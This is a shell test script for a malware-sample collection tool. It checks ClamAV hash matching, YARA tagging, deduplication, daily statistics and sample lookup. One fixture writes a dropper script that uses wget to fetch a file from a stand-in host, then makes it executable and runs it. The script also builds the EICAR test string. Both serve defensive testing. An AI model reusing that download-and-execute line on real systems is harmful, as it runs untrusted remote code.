#!/bin/sh
# kansoku samples, end to end: add files and a directory (harmless files made here, the EICAR
# string assembled at run time), ClamAV verdicts from a database made here, YARA tags and
# indicators from data/yara, idempotent re-add, stats per day, show.
. "$KS_SRCDIR/tests/cli/lib.sh"
DB="$TMP/s.db"
RULES="$KS_SRCDIR/data/yara"
mkdir -p "$TMP/in/sub" "$TMP/clamdb"
printf 'a harmless text file\n' >"$TMP/in/note.txt"
printf '#!/bin/sh\ncd /tmp\nwget http://192.0.2.55/x.sh -O y\nchmod +x y\n./y\n' >"$TMP/in/sub/drop.sh"
# The EICAR anti-virus test string, put together here (it is never stored in the repository).
printf '%s%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$' 'EICAR-STANDARD-ANTIVIRUS-' 'TEST-FILE!$H+H*' \
    >"$TMP/in/eicar.com"
# ClamAV: an MD5 signature (.hdb) for the note and a SHA-256 one (.hsb) for EICAR.
printf '%s:%s:Kansoku.Test.Note\n' "$(md5sum <"$TMP/in/note.txt" | cut -d' ' -f1)" \
    "$(wc -c <"$TMP/in/note.txt" | tr -d ' ')" >"$TMP/clamdb/t.hdb"
printf '%s:%s:Kansoku.Test.Eicar\n' "$(sha256sum <"$TMP/in/eicar.com" | cut -d' ' -f1)" \
    "$(wc -c <"$TMP/in/eicar.com" | tr -d ' ')" >"$TMP/clamdb/t.hsb"
OPTS="--db $DB --clamav-db $TMP/clamdb --yara-rules $RULES --samples-dir $TMP/store"

check_exit 2 "usage error without files" "$KANSOKU" samples add --db "$DB"
check_exit 2 "usage error on a bad --via" "$KANSOKU" samples add --via fax "$TMP/in"
check_exit 2 "usage error on a bad --time" "$KANSOKU" samples add --time yesterday "$TMP/in"
check_grep "help names the options" "clamav-db" "$KANSOKU" samples add --help

check "add a directory" "$KANSOKU" samples add $OPTS --source 192.0.2.1 \
    --time 2008-05-01T10:00:00Z --via honeypot "$TMP/in"
n=$(wc -l <"$TMP/.out")
[ "$n" -eq 3 ] && ok "one line per file" || not_ok "one line per file" "$n lines"
grep -q 'NEW .*Kansoku.Test.Eicar' "$TMP/.out" && ok "EICAR detected by the hash database" ||
    not_ok "EICAR detected by the hash database" "$(cat "$TMP/.out")"
grep -q 'NEW .*Kansoku.Test.Note' "$TMP/.out" && ok "harmless file matched by MD5 signature" ||
    not_ok "harmless file matched by MD5 signature"
grep -Eq 'NEW +downloader clean text/x-shellscript' "$TMP/.out" && ok "shell downloader tagged" ||
    not_ok "shell downloader tagged" "$(cat "$TMP/.out")"
files=$(find "$TMP/store" -type f -perm 0400 | wc -l)
[ "$files" -eq 3 ] && ok "kept read-only by hash" || not_ok "kept read-only by hash" "$files"

check_err "the same add again is refused" 1 "already ingested" "$KANSOKU" samples add $OPTS \
    --source 192.0.2.1 --time 2008-05-01T10:00:00Z --via honeypot "$TMP/in"
check "a second capture of one file, next day" "$KANSOKU" samples add $OPTS --source 192.0.2.2 \
    --time 2008-05-02T08:00:00Z --via honeypot "$TMP/in/sub/drop.sh"
grep -q ' SEEN downloader' "$TMP/.out" && ok "known sample is SEEN" || not_ok "known sample is SEEN"

if [ -r /usr/share/clamav-testfiles/clam-upx.exe ]; then
    check_grep "UPX test file is packed" ' NEW  packed ' "$KANSOKU" samples add $OPTS \
        --time 2008-05-02T09:00:00Z /usr/share/clamav-testfiles/clam-upx.exe
else
    echo "skip: clamav-testfiles not installed (UPX check)"
fi

check_out "stats per day (JSON)" '{"kind":"day","day":"2008-05-01","captures":3,"unique":3,"new":3}
{"kind":"day","day":"2008-05-02","captures":1,"unique":1,"new":0}' \
    sh -c "'$KANSOKU' samples stats --db '$DB' --json --to 2008-05-02T08:30:00Z | grep '\"day\"'"
check_grep "stats: downloader share" '"tag":"downloader","samples":1' \
    "$KANSOKU" samples stats --db "$DB" --json
check_grep "stats: distribution URL" '"kind":"ioc","type":"url","value":"http://192.0.2.55/x.sh"' \
    "$KANSOKU" samples stats --db "$DB" --json
check_grep "stats: sources counted" '"kind":"country","country":"[A-Z-]+","captures":4,"sources":2' \
    "$KANSOKU" samples stats --db "$DB" --json --to 2008-05-02T08:30:00Z
check_grep "stats table" '^2008-05-01 +3 +3 +3$' "$KANSOKU" samples stats --db "$DB"

sha=$(sha256sum <"$TMP/in/sub/drop.sh" | cut -d' ' -f1)
md5=$(md5sum <"$TMP/in/sub/drop.sh" | cut -d' ' -f1)
check_grep "show by SHA-256" '^captures +2 from 2 sources' "$KANSOKU" samples show --db "$DB" "$sha"
check_grep "show by MD5 (JSON)" "\"sha256\":\"$sha\"" "$KANSOKU" samples show --db "$DB" --json "$md5"
check_err "show of an unknown hash fails" 1 "no such sample" "$KANSOKU" samples show --db "$DB" \
    0000000000000000000000000000000000000000000000000000000000000000
check_exit 2 "show of a non-hash is a usage error" "$KANSOKU" samples show --db "$DB" xyz
finish
